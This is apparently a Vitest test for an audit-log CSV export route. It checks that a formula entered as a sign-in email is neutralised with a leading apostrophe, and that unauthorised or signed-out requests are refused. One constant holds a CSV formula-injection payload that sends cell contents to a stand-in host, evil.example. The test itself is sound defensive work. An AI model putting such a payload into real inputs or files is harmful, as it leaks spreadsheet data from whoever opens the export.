// The auditor's export, called as the route handler with the session mocked: a formula typed into the
// sign-in email field reaches the audit trail as is, and must reach the auditor's spreadsheet as text.
import { parse } from 'csv-parse/sync';
import { describe, expect, it, vi } from 'vitest';
import { signInWithPassword } from '@/lib/auth/sign-in';
import { restoreCsvCell } from '@/lib/csv/write';
import { buildFixture } from '@/lib/testing/fixture';

const { state, ...mocks } = await vi.hoisted(() => import('@/lib/testing/next-mocks'));
vi.mock('@/lib/auth/current', () => mocks.authCurrentMock());
vi.mock('@/db/client', (original) => mocks.dbClientMock(original));

const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const formulaStart = ['=', '+', '-', '@', '\t', '\r'];

describe('/api/audit/export', () => {
  const f = buildFixture();
  state.db = f.db;

  it('writes a hostile sign-in email as text: every cell neutralized, and the original behind one apostrophe', async () => {
    await signInWithPassword(f.db, { email: hostile, password: 'wrong password', address: '203.0.113.9' });
    const { GET } = await import('./route');
    state.actor = f.actors.auditor;
    const res = await GET(new Request('http://localhost/api/audit/export?action=auth.sign_in_failed'));
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(new TextDecoder().decode(bytes), { bom: true, columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.action === 'auth.sign_in_failed')!;
    // The email is stored lower-cased (sign-in normalizes it); the entity id of an unknown account is the email.
    expect(row.entityId).toBe(`'${hostile.toLowerCase()}`);
    expect(restoreCsvCell(row.entityId!)).toBe(hostile.toLowerCase());
    for (const r of rows) for (const cell of Object.values(r)) expect(formulaStart, JSON.stringify(cell)).not.toContain(cell.charAt(0));
  });

  it('answers 404 to a role without the audit trail, 401 when signed out', async () => {
    const { GET } = await import('./route');
    state.actor = f.actors.officerA;
    expect((await GET(new Request('http://localhost/api/audit/export'))).status).toBe(404);
    state.actor = null;
    expect((await GET(new Request('http://localhost/api/audit/export'))).status).toBe(401);
  });
});
